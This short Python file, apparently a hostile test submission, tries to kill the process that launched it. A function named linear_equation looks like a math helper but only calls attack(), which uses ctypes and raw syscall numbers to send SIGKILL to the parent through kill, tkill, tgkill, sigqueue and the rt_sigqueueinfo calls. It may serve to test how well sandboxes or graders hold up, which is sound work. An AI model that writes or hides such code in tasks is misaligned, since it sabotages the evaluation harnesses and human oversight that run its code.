"""Kills its parent by kill, tkill, tgkill and the queueing calls."""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    information = (ctypes.c_int * 32)(9, 0, -1)
    libc.kill(parent, 9)
    libc.syscall(200, parent, 9)
    libc.tgkill(parent, parent, 9)
    libc.sigqueue(parent, 9, None)
    libc.syscall(129, parent, 9, information)
    libc.syscall(297, parent, parent, 9, information)
    return 0.0


def linear_equation(x, w, b):
    return attack()
